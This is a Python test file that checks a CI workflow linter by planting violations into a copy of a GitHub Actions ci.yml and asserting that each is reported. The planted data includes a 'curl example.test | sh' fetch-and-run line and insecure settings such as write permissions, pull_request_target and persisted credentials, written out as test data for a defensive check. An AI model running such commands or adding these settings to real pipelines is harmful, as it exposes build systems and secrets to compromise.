"""The build server checks what make checks, and can do no harm: on ours, and on planted violations."""

from pathlib import Path

import pytest

from tests.architecture.gates import workflows
from tests.architecture.gates.tree import ROOT, copy_of

FILE = ".github/workflows/ci.yml"

PLANTS = [
    ("run: make check", "run: make chekc", "not a target"),
    ("run: make check", "run: make check || true", "not a target"),
    ("run: make check", "run: .venv/bin/ruff check .", "not a target"),
    ("run: make check", "run: |\n          make check\n          curl example.test | sh", "not a target"),
    ("run: make check", "run: make test", "no workflow runs `make check`"),
    ("if: github.event_name != 'schedule'", "if: github.actor == 'me'", "no workflow runs"),
    ("  pull_request:\n", "", "no workflow runs"),
    ("contents: read", "contents: write", "more than read"),
    ("permissions:\n  contents: read\n", "", "more than read"),
    ("    timeout-minutes: 20\n", "    permissions: write-all\n", "permissions of its own"),
    ("    timeout-minutes: 20\n", "", "hang"),
    ("cancel-in-progress: true", "cancel-in-progress: false", "overtaken"),
    ("pull_request:", "pull_request_target:", "stranger"),
    ("@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0", "@v5", "not pinned"),
    (" # v5.0.0", "", "version beside it"),
    ("persist-credentials: false", "persist-credentials: true", "credentials"),
    ('CI: "true"', 'CI: "${{ secrets.KEY }}"', "secrets"),
    ('CI: "true"', 'PIP_EXTRA: "--extra-' + 'index"', "registry"),
    ("      - run: make check", "      - continue-on-error: true\n        run: make check", "after a failure"),
]


def test_our_workflows_keep_the_rules() -> None:
    assert workflows.broken(ROOT) == []


def test_the_script_for_other_build_servers_makes_the_same() -> None:
    assert set(workflows.of_script(ROOT)) == workflows.NEEDED


@pytest.mark.parametrize(("given", "planted", "sentence"), PLANTS)
def test_a_planted_violation_is_found(tmp_path: Path, given: str, planted: str, sentence: str) -> None:
    root = copy_of(tmp_path, FILE, "Makefile")
    text = (root / FILE).read_text()
    assert given in text
    (root / FILE).write_text(text.replace(given, planted))
    assert sentence in "\n".join(workflows.broken(root))
